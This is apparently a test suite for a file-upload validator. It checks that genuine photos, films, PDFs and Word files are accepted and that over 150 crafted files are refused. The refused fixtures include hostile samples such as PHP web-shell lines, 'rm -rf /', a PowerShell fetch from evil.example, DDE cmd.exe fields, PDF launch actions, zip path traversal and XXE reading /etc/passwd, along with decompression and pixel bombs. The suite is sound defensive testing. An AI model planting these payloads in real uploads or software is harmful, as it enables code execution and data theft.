// Valid files, and files that must be rejected: by their content, whatever their names.
import { randomBytes } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import type { FileKind, FileRefusal } from '@husrum/domain'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ZipPart } from '../../testing/sent-files.ts'
import {
  aBox,
  aChunk,
  aDocx,
  aFilm,
  aJpeg,
  aPdf,
  aPng,
  aZip,
  contentTypes,
  docxWith,
  externalRelation,
  filmHeader,
  jpegWith,
  pngWith,
  relations,
  wordDocument,
} from '../../testing/sent-files.ts'
import { inspectFile } from './inspect-file.ts'
import type { Scanner } from './scanner.ts'
import { noScanner } from './scanner.ts'

let directory: string
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'judge-'))
})
afterAll(() => rm(directory, { recursive: true }))

let judged = 0
const judge = async (content: Buffer, { scanner = noScanner }: { scanner?: Scanner } = {}) => {
  judged += 1
  const path = join(directory, `file-${judged}`)
  await writeFile(path, content)
  return inspectFile(path, { purpose: 'case', scanner })
}

const jpeg = await aJpeg({ width: 120, height: 80 })
const png = await aPng()
const film = aFilm()
const pdf = aPdf()
const docx = aDocx()

/** The beginning of a valid file, followed by something else: invalid by its structure. */
const page = Buffer.from('<!doctype html><script>alert(1)</script>')
const text = (words: string) => Buffer.from(words, 'latin1')
const zipped = aZip([{ name: 'run.exe', content: 'MZ' }])
const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share))
const with_ = (...parts: readonly Buffer[]) => Buffer.concat(parts)
const word = (name: string, content = 'x'): ZipPart => ({ name, content })
const changed = (bytes: Buffer, at: number, value: number): Buffer => {
  const copy = Buffer.from(bytes)
  copy[at < 0 ? copy.length + at : at] = value
  return copy
}

type Case = readonly [what: string, content: Buffer]

/** They are never unpacked, and not part of the stored file. */
const packedWords = with_(text('Title\0\0'), deflateSync(Buffer.alloc(50_000_000, 65)))

/** A picture that is drawn repeatedly: each time costs as much as the first. */
const manyScans = await (async () => {
  const picture = await sharp({ create: { width: 2_000, height: 2_000, channels: 3, background: 'teal' } })
    .jpeg({ progressive: true })
    .toBuffer()
  const scan = picture.subarray(picture.lastIndexOf(Buffer.from([0xff, 0xda])), -2)
  const scans = Array.from({ length: 3_000 }, () => scan)
  return with_(picture.subarray(0, -2), ...scans, Buffer.from([0xff, 0xd9]))
})()

const good: Readonly<Record<FileKind, readonly Case[]>> = {
  jpeg: [
    ['a photograph', jpeg],
    ...(await Promise.all(
      [1, 2, 3, 4, 5, 6, 7, 8].map(
        async (orientation): Promise<Case> => [`turned ${orientation}`, await aJpeg({ orientation })],
      ),
    )),
    ['with a place', await aJpeg({ hasPlace: true })],
    ['progressive', await sharp(jpeg).jpeg({ progressive: true }).toBuffer()],
    ['grey', await sharp(jpeg).greyscale().jpeg().toBuffer()],
    ['of one point', await aJpeg({ width: 1, height: 1 })],
    ['of a wide scene', await aJpeg({ width: 9_000, height: 500 })],
    ['with a comment', jpegWith(jpeg, 0xfe, 'Under diskbänken')],
    ['with XMP', jpegWith(jpeg, 0xe1, 'http://ns.adobe.com/xap/1.0/\0<?xpacket?><x:xmpmeta/>')],
    ['with a film behind it', with_(jpeg, film)],
    ['with a second picture behind it', with_(jpeg, jpeg)],
    ['with zeros behind it', with_(jpeg, Buffer.alloc(600))],
  ],
  png: [
    ['a picture of a screen', png],
    ['with transparency', await sharp(png).ensureAlpha(0.5).png().toBuffer()],
    ['with a palette', await sharp(png).png({ palette: true }).toBuffer()],
    ['interlaced', await sharp(png).png({ progressive: true }).toBuffer()],
    ['with words in it', pngWith(png, aChunk('tEXt', text('Title\0Kranen')))],
    ['with words that unpack to fifty megabytes', pngWith(png, aChunk('zTXt', packedWords))],
  ],
  pdf: [
    ['a page', pdf],
    ['without a line at its end', aPdf('', '')],
    ['with a line of Windows', aPdf('', '\r\n')],
    ['written to twice', with_(pdf, aPdf().subarray(15))],
    ['with a link', aPdf('/OpenAction [3 0 R /Fit] /URI (https://example.com)')],
    ['with some zeros behind it', aPdf('', '\n\0\0\0\0')],
  ],
  mp4: [
    ['a film', film],
    ...['mp41', 'mp42', 'iso2', 'iso5', 'iso6', 'avc1', 'M4V '].map(
      (brand): Case => [`of the brand ${brand}`, aFilm({ brand })],
    ),
    ['with room in it', aFilm({ more: [aBox('free', Buffer.alloc(400))] })],
    ['with its header last', aFilm({ header: Buffer.alloc(0), behind: filmHeader() })],
    ['in pieces', with_(film, aBox('moof', aBox('mfhd', Buffer.alloc(8))), aBox('mdat', 'x'))],
    [
      'whose last box is as long as there is',
      with_(film, Buffer.from([0, 0, 0, 0]), text('mdat'), Buffer.alloc(90)),
    ],
  ],
  quicktime: [
    ['a film', aFilm({ brand: 'qt  ' })],
    ['from before the brands', aFilm({ hasBrand: false })],
    ['with wide', with_(aBox('wide'), aFilm({ hasBrand: false }))],
  ],
  docx: [
    ['a letter', docx],
    ['with its parts the other way round', aZip([...docxWith()].reverse())],
    ['stored', aZip(docxWith().map((part) => ({ ...part, isPacked: false })))],
    ['with a picture', aDocx({ name: 'word/media/image1.jpg', content: jpeg, isPacked: false })],
    [
      'with a link',
      aDocx(relations('word/_rels/document.xml.rels', externalRelation('hyperlink', 'https://example.com'))),
    ],
    ['with a sheet', aDocx(word('word/embeddings/sheet.xlsx'))],
    ['that is long', aDocx(wordDocument('<w:p><w:r><w:t>Det droppar.</w:t></w:r></w:p>'.repeat(20_000)))],
    ['with a folder', aDocx({ name: 'word/media/', content: '', isPacked: false })],
  ],
}

describe.each(Object.entries(good))('A file of kind %s is accepted', (kind, cases) => {
  it.each(cases)('%s', async (_, content) => {
    expect(await judge(content)).toMatchObject({ kind: 'clean', fileKind: kind })
  })
})

it('At least forty valid files are accepted', () => {
  expect(Object.values(good).flat().length).toBeGreaterThanOrEqual(40)
})

/** A PNG whose header claims a huge size, and whose file is small. */
const bombPng = (() => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(50_000, 0)
  header.writeUInt32BE(50_000, 4)
  header.set([8, 2, 0, 0, 0], 8)
  return with_(
    png.subarray(0, 8),
    aChunk('IHDR', header),
    aChunk('IDAT', deflateSync(Buffer.alloc(100_000))),
    aChunk('IEND', Buffer.alloc(0)),
  )
})()
/** The same of a JPEG: its frame header claims 65,000 by 65,000. */
const bombJpeg = (() => {
  const at = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  const copy = Buffer.from(jpeg)
  copy.writeUInt16BE(65_000, at + 5)
  copy.writeUInt16BE(65_000, at + 7)
  return copy
})()

const foreignHeads: readonly Case[] = [
  ['HTML', page],
  ['HTML without its type', text('<html><body onload=alert(1)>')],
  ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['SVG with its declaration', text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['XML', text('<?xml version="1.0"?><a/>')],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['a script of Python', text('#!/usr/bin/env python3\n')],
  ['PHP', text('<?php system($_GET[0]); ?>')],
  ['JavaScript', text('alert(document.cookie)')],
  ['a batch file', text('@echo off\r\ndel *.*\r\n')],
  ['PowerShell', text('Invoke-WebRequest https://evil.example')],
  ['a text', text('Det droppar.')],
  ['JSON', text('{"a":1}')],
  ['a table', text('=cmd|calc!A1;b\n')],
  ['a program for Windows', with_(text('MZ\x90\0'), Buffer.alloc(200))],
  ['a program for Linux', with_(text('\x7fELF\x02\x01\x01'), Buffer.alloc(200))],
  ['a program for macOS', with_(Buffer.from('cffaedfe', 'hex'), Buffer.alloc(200))],
  ['a class of Java', with_(Buffer.from('cafebabe', 'hex'), Buffer.alloc(200))],
  ['WebAssembly', with_(text('\0asm\x01\0\0\0'), Buffer.alloc(50))],
  ['GIF', with_(text('GIF89a'), Buffer.alloc(50))],
  ['WebP', with_(text('RIFF\x20\0\0\0WEBPVP8 '), Buffer.alloc(50))],
  ['AVIF', with_(aBox('ftyp', 'avif', Buffer.alloc(4), 'mif1'), aBox('mdat', 'x'))],
  ['HEIC', with_(aBox('ftyp', 'heic', Buffer.alloc(4), 'mif1'), aBox('mdat', 'x'))],
  ['TIFF', with_(text('II*\0'), Buffer.alloc(50))],
  ['BMP', with_(text('BM'), Buffer.alloc(80))],
  ['an icon', with_(Buffer.from('00000100', 'hex'), Buffer.alloc(80))],
  ['a picture of Photoshop', with_(text('8BPS\0\x01'), Buffer.alloc(80))],
  ['sound', with_(text('ID3\x04\0\0'), Buffer.alloc(80))],
  ['WAV', with_(text('RIFF\x20\0\0\0WAVEfmt '), Buffer.alloc(80))],
  ['Ogg', with_(text('OggS\0\x02'), Buffer.alloc(80))],
  ['Matroska', with_(Buffer.from('1a45dfa3', 'hex'), Buffer.alloc(80))],
  ['AVI', with_(text('RIFF\x20\0\0\0AVI LIST'), Buffer.alloc(80))],
  ['a film of a telephone', aFilm({ brand: '3gp4' })],
  ['sound of Apple', aFilm({ brand: 'M4A ' })],
  ['RAR', with_(text('Rar!\x1a\x07\0'), Buffer.alloc(80))],
  ['7-Zip', with_(Buffer.from('377abcaf271c', 'hex'), Buffer.alloc(80))],
  ['gzip', with_(Buffer.from('1f8b0800', 'hex'), Buffer.alloc(80))],
  ['tar', with_(Buffer.alloc(257), text('ustar\0'), Buffer.alloc(300))],
  ['xz', with_(Buffer.from('fd377a585a00', 'hex'), Buffer.alloc(80))],
  ['a disk', with_(text('conectix'), Buffer.alloc(80))],
  ['an old Word file', with_(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600))],
  ['RTF', text('{\\rtf1\\ansi Det droppar.}')],
  ['PostScript', text('%!PS-Adobe-3.0\n')],
  ['OpenDocument', aZip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' }])],
  ['EPUB', aZip([{ name: 'mimetype', content: 'application/epub+zip' }])],
  ['a ZIP', zipped],
  ['an empty ZIP', aZip([])],
  ['an app for Android', aZip([word('AndroidManifest.xml'), word('classes.dex')])],
  ['a program of Java', aZip([word('META-INF/MANIFEST.MF')])],
  ['a sheet of Excel', aZip([contentTypes('sheet'), relations('_rels/.rels'), word('xl/workbook.xml')])],
  ['slides', aZip([contentTypes('slides'), relations('_rels/.rels'), word('ppt/presentation.xml')])],
  ['a database', with_(text('SQLite format 3\0'), Buffer.alloc(80))],
  ['a link of Windows', with_(Buffer.from('4c0000000114020000000000c0000000', 'hex'), Buffer.alloc(80))],
  ['a font', with_(Buffer.from('0001000000', 'hex'), Buffer.alloc(80))],
  ['noise', randomBytes(3_000)],
  ['zeros', Buffer.alloc(3_000)],
  ['one byte', text('a')],
]

const bad: Readonly<Partial<Record<FileRefusal, readonly Case[]>>> = {
  fileEmpty: [['nothing', Buffer.alloc(0)]],
  fileType: [
    ...foreignHeads,
    ['a photograph behind other bytes', with_(text('\0'), jpeg)],
    ['a photograph behind a page', with_(page, jpeg)],
    ['a PDF behind a line', with_(text('\n'), pdf)],
    ['a PDF behind a photograph’s first two bytes', with_(Buffer.from('ffd8', 'hex'), pdf)],
    ['a picture in capitals', changed(png, 1, 'p'.charCodeAt(0))],
    ['a Word file with macros', aDocx(word('word/vbaProject.bin'))],
    ['a Word file with a sheet’s parts', aDocx(word('xl/workbook.xml'))],
    ['a Word file with a program of Java in it', aDocx(word('META-INF/MANIFEST.MF'))],
    ['a Word file without its types', aZip(docxWith().slice(1))],
    ['a Word file behind a page', with_(page, docx)],
    ['a Word file before a page', with_(docx, page)],
    ['half a Word file', cut(docx, 0.5)],
    ['a picture’s head before a page', with_(png.subarray(0, 8), page)],
    ['a picture’s head before noise', with_(png.subarray(0, 8), randomBytes(2_000))],
    ['a picture without its header', with_(png.subarray(0, 8), png.subarray(33))],
    [
      'a Word template',
      aDocx(contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml')),
    ],
    [
      'a Word file of two thousand parts',
      aDocx(...Array.from({ length: 2_001 }, (_, at) => word(`word/${at}.xml`))),
    ],
  ],
  fileBroken: [
    ...[0.1, 0.3, 0.5, 0.7, 0.9].map((share): Case => [`${share} of a photograph`, cut(jpeg, share)]),
    ...[0.3, 0.6, 0.9].map((share): Case => [`${share} of a picture`, cut(png, share)]),
    ...[0.2, 0.5, 0.9].map((share): Case => [`${share} of a film`, cut(film, share)]),
    ...[0.2, 0.5, 0.9].map((share): Case => [`${share} of a PDF`, cut(pdf, share)]),
    ['a photograph’s head alone', Buffer.from('ffd8ffe000104a46494600', 'hex')],
    ['a photograph’s head before a page', with_(Buffer.from('ffd8ffe0', 'hex'), page)],
    ['a photograph’s head before noise', with_(Buffer.from('ffd8ffe0', 'hex'), randomBytes(2_000))],
    ['a photograph without its tables', with_(jpeg.subarray(0, 20), jpeg.subarray(-20))],
    ['a photograph of three thousand layers', manyScans],
    ['a photograph without a picture', Buffer.from('ffd8ffd9ffd8ffd9', 'hex').subarray(0, 4)],
    ['a picture without its end', png.subarray(0, -12)],
    ['a picture with a wrong checksum', changed(png, png.indexOf('IDAT') + 10, 99)],
    ['a picture with an endless chunk', changed(png, 33, 0x7f)],
    ['a PDF’s head before a page', with_(text('%PDF-1.7\n'), page)],
    ['a PDF’s head alone', text('%PDF-1.7\n')],
    ['a PDF’s head and end', text('%PDF-1.7\nstartxref\n0\n%%EOF')],
    ['a PDF that does not say where its list is', text('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n')],
    ['a film’s head alone', film.subarray(0, 24)],
    ['a film’s head before a page', with_(film.subarray(0, 24), page)],
    ['a film’s head before noise', with_(film.subarray(0, 24), randomBytes(2_000).fill(255, 0, 4))],
    ['a film without its header', aFilm({ header: Buffer.alloc(0) })],
    ['a film without media', aFilm({ media: Buffer.alloc(0) })],
    ['a film without a track', aFilm({ header: aBox('moov', aBox('mvhd', Buffer.alloc(100))) })],
    ['a film whose header is broken', aFilm({ header: aBox('moov', Buffer.alloc(100, 255)) })],
    ['a film with a box that is too short', with_(film, Buffer.from([0, 0, 0, 3]), text('free'))],
    ['a film with a box that is too long', with_(film, Buffer.from([0, 1, 0, 0]), text('free'))],
    ['a film with half a box behind it', with_(film, text('\0\0\0'))],
    ['a film of ten thousand boxes', with_(film, ...Array.from({ length: 10_001 }, () => aBox('free')))],
    ['a Word file with a secret', aDocx({ ...word('word/a.xml'), flags: 1 })],
    ['a Word file packed in another way', aDocx({ ...word('word/a.xml'), method: 14 })],
    ['a Word file with a part shorter than it says', aDocx({ ...word('word/a.xml'), saidSize: 900 })],
    [
      'a Word file with a part longer than it says',
      aDocx({ ...word('word/a.xml', 'x'.repeat(900)), saidSize: 9 }),
    ],
    ['a Word file that climbs', aDocx(word('word/../../../etc/passwd'))],
    ['a Word file from the root', aDocx(word('/etc/passwd'))],
    ['a Word file on another drive', aDocx(word('C:/windows/a.xml'))],
    ['a Word file with backslashes', aDocx(word('word\\..\\..\\a.xml'))],
    ['a Word file without its document', aZip([...docxWith().slice(0, 2), word('word/styles.xml')])],
    ['a Word file of another type', aDocx(contentTypes('text/plain'))],
  ],
  fileTooManyPixels: [
    ['a picture of 50,000 by 50,000', bombPng],
    ['a photograph of 65,000 by 65,000', bombJpeg],
  ],
  fileActive: [
    ...['JavaScript', 'Launch', 'ImportData', 'SubmitForm', 'RichMedia'].map(
      (name): Case => [`a PDF with ${name}`, aPdf(`/OpenAction << /S /${name} /JS (app.alert\\(1\\)) >>`)],
    ),
    ['a PDF with a script spelt otherwise', aPdf('/OpenAction << /S /J#61va#53cript >>')],
    ['a PDF that starts a program, spelt otherwise', aPdf('/AA << /O << /S /#4caunch >> >>')],
    ...['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'image', 'externalLink', 'video'].map(
      (type): Case => [
        `a Word file that loads its ${type}`,
        aDocx(relations('word/_rels/document.xml.rels', externalRelation(type))),
      ],
    ),
    ...[
      ['with a letter as a number', externalRelation('oleObject').replace('External', '&#69;xternal')],
      ['with a letter as another number', externalRelation('oleObject').replace('External', '&#x45;xternal')],
      ['behind a sign', externalRelation('oleObject').replace('Id="rId9"', 'Id="a>b"')],
      ['in single quotes', externalRelation('oleObject').replace(/"/g, "'")],
      ['under another prefix', externalRelation('oleObject').replace('<Rel', '<r:Rel')],
    ].map(
      ([how, relation = '']): Case => [
        `a Word file that loads something, written ${how}`,
        aDocx(relations('word/_rels/document.xml.rels', relation)),
      ],
    ),
    [
      'a Word file whose settings load a template',
      aDocx(
        relations('word/_rels/settings.xml.rels', externalRelation('attachedTemplate', 'file://evil/a.dotm')),
      ),
    ],
    ...['word/activeX/activeX1.xml', 'word/activeX/activeX1.bin', 'word/embeddings/oleObject1.bin'].map(
      (name): Case => [`a Word file with ${name}`, aDocx(word(name))],
    ),
    ...[
      'exe',
      'dll',
      'js',
      'vbs',
      'hta',
      'scr',
      'bat',
      'ps1',
      'jar',
      'lnk',
      'html',
      'svg',
      'docm',
      'xlsm',
    ].map((ending): Case => [`a Word file with a part .${ending}`, aDocx(word(`word/media/a.${ending}`))]),
    ['a Word file with vbaData', aDocx(word('word/vbaData.xml'))],
    [
      'a Word file of the kind with macros',
      aDocx({ ...contentTypes(), content: `${contentTypes().content}<!-- macroEnabled -->` }),
    ],
    [
      'a Word file with DDE',
      aDocx(wordDocument('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>')),
    ],
    [
      'a Word file with DDE in pieces',
      aDocx(wordDocument('<w:instrText>D</w:instrText><w:instrText>DE x</w:instrText>')),
    ],
    [
      'a Word file with DDE in an attribute',
      aDocx(wordDocument('<w:fldSimple w:instr="DDE cmd x"></w:fldSimple>')),
    ],
  ],
  fileUnsafe: [
    ['a photograph with a ZIP behind it', with_(jpeg, zipped)],
    ['a photograph with a page behind it', with_(jpeg, page)],
    ['a photograph with a PDF behind it', with_(jpeg, pdf)],
    ['a photograph with a Word file behind it', with_(jpeg, docx)],
    ['a photograph with PHP behind it', with_(jpeg, text('<?php system(1); ?>'))],
    ['a photograph with RAR behind it', with_(jpeg, text('Rar!\x1a\x07\0'))],
    ['a photograph with much of nothing we know behind it', with_(jpeg, randomBytes(2_000).fill(1, 0, 16))],
    ['a photograph with a script in its comment', jpegWith(jpeg, 0xfe, '<script>alert(1)</script>')],
    ['a photograph with PHP in its comment', jpegWith(jpeg, 0xfe, '<?php eval($_POST[1]); ?>')],
    ['a photograph with PHP in its EXIF', jpegWith(jpeg, 0xe1, 'Exif\0\0<?php system(1); ?>')],
    ['a photograph with a ZIP in its comment', jpegWith(jpeg, 0xfe, zipped)],
    ['a picture with a ZIP behind it', with_(png, zipped)],
    ['a picture with a page behind it', with_(png, page)],
    ['a picture with a program behind it', with_(png, text('\x7fELF'))],
    [
      'a picture with a script in its words',
      pngWith(png, aChunk('tEXt', text('a\0<script>alert(1)</script>'))),
    ],
    ['a picture with PHP in its words', pngWith(png, aChunk('iTXt', text('a\0<?php system(1); ?>')))],
    ['a PDF with a ZIP behind it', with_(pdf, zipped)],
    ['a PDF with a page behind it', aPdf('', `\n${page}`)],
    ['a PDF with much behind it', aPdf('', `\n${'a'.repeat(2_000)}`)],
    ['a film with a ZIP behind it', aFilm({ behind: aBox('free', zipped) })],
    ['a film with a ZIP in its media', aFilm({ media: aBox('mdat', zipped) })],
    ['a film with a page in its free room', aFilm({ more: [aBox('free', page)] })],
    ['a film with a page in its user data', aFilm({ more: [aBox('udta', page)] })],
    ['a film with a page in a box of its own', aFilm({ more: [aBox('uuid', page)] })],
    ['a film with an unknown box', aFilm({ more: [aBox('evil', 'x')] })],
    ['a Word file with a part twice', aDocx(word('word/a.xml'), word('word/a.xml'))],
    ['a Word file with a part twice in other capitals', aDocx(word('word/a.xml'), word('word/A.xml'))],
    ['a Word file with parts in each other', aDocx({ ...word('word/a.xml'), saidPlace: 4 })],
    [
      'a Word file of two hundred thousand paragraphs in each other',
      aDocx(wordDocument('<w:p>'.repeat(200_000) + '</w:p>'.repeat(200_000))),
    ],
    ['a Word file of zeros, packed', aDocx({ name: 'word/a.xml', content: Buffer.alloc(30_000_000) })],
    [
      'a Word file that says it is of four gigabytes',
      aDocx({ ...word('word/a.xml'), saidSize: 4_000_000_000 }),
    ],
    [
      'a Word file of many parts that are large together',
      aDocx(
        ...Array.from({ length: 30 }, (_, at) => ({
          name: `word/${at}.xml`,
          content: Buffer.concat([randomBytes(60_000), Buffer.alloc(8_000_000)]),
        })),
      ),
    ],
    [
      'a Word file with entities',
      aDocx({ ...wordDocument(), content: `<!DOCTYPE a [<!ENTITY b "c">]>${wordDocument().content}` }),
    ],
    [
      'a Word file that reads files',
      aDocx({ ...word('word/settings.xml'), content: '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>' }),
    ],
    [
      'a Word file with relations in another alphabet',
      aDocx({
        name: 'word/_rels/document.xml.rels',
        content: Buffer.from(`\ufeff${String(relations('', externalRelation('frame')).content)}`, 'utf16le'),
      }),
    ],
    [
      'a Word file with relations that say they are in another alphabet',
      aDocx({
        name: 'word/_rels/document.xml.rels',
        content: String(relations('').content).replace('UTF-8', 'UTF-7'),
      }),
    ],
    ['a Word file with a name of control characters', aDocx(word('word/a\u0007.xml'))],
    ['a Word file with an endless name', aDocx(word(`word/${'a'.repeat(600)}.xml`))],
  ],
}

describe.each(Object.entries(bad))('A file is rejected as %s', (refusal, cases = []) => {
  it.each(cases)('%s', async (_, content) => {
    expect(await judge(content)).toEqual({ kind: 'refused', refusal })
  })
})

it('At least 150 invalid files are rejected', () => {
  expect(Object.values(bad).flat().length).toBeGreaterThanOrEqual(150)
})

describe('A stored photograph', () => {
  const kept = async (content: Buffer) => {
    const verdict = await judge(content)
    if (verdict.kind !== 'clean') throw new Error('It was refused')
    return readFile(verdict.path)
  }

  it('contains no place, time and camera', async () => {
    const taken = await aJpeg({ hasPlace: true, orientation: 1 })
    expect((await sharp(taken).metadata()).exif).toBeDefined()
    const { exif, xmp, iptc, icc } = await sharp(await kept(taken)).metadata()
    expect([exif, xmp, iptc, icc]).toEqual([undefined, undefined, undefined, undefined])
  })

  it('is upright', async () => {
    const { width, height, orientation } = await sharp(
      await kept(await aJpeg({ width: 100, height: 60, orientation: 6 })),
    ).metadata()
    expect([width, height, orientation]).toEqual([60, 100, undefined])
  })

  it('is at most 4,096 pixels on a side', async () => {
    const { width, height } = await sharp(await kept(await aJpeg({ width: 9_000, height: 4_500 }))).metadata()
    expect([width, height]).toEqual([4_096, 2_048])
  })

  it('has no data appended to it', async () => {
    expect((await kept(with_(jpeg, film))).includes('ftyp')).toBe(false)
  })
})

describe('A stored film', () => {
  const place = text('©xyz+59.3293+018.0686/')
  const header = aBox(
    'moov',
    aBox('mvhd', Buffer.alloc(100)),
    aBox('trak', aBox('tkhd', Buffer.alloc(84)), aBox('udta', place)),
    aBox('udta', place),
    aBox('meta', text('com.apple.quicktime.location.ISO6709'), place),
  )
  it.each([
    ['its header', aFilm({ header })],
    ['boxes of its own', aFilm({ more: [aBox('udta', place), aBox('uuid', place)] })],
  ])('does not contain its location, in %s, and none of its bytes has moved', async (_, content) => {
    const verdict = await judge(content)
    if (verdict.kind !== 'clean') throw new Error('It was refused')
    const kept = await readFile(verdict.path)
    expect(kept.includes('59.3293')).toBe(false)
    expect(kept.includes('location')).toBe(false)
    expect(kept.length).toBe(content.length)
    expect(kept.indexOf('mdat')).toBe(content.indexOf('mdat'))
  })
})

describe('A scanner', () => {
  it('causes a known malicious file to be rejected', async () => {
    const scanner: Scanner = { scan: async () => 'infected' }
    expect(await judge(jpeg, { scanner })).toEqual({ kind: 'refused', refusal: 'fileInfected' })
  })

  it('that does not answer makes the file wait', async () => {
    const scanner: Scanner = {
      scan: async () => {
        throw new Error('Unavailable')
      },
    }
    await expect(judge(jpeg, { scanner })).rejects.toThrow('Unavailable')
  })
})
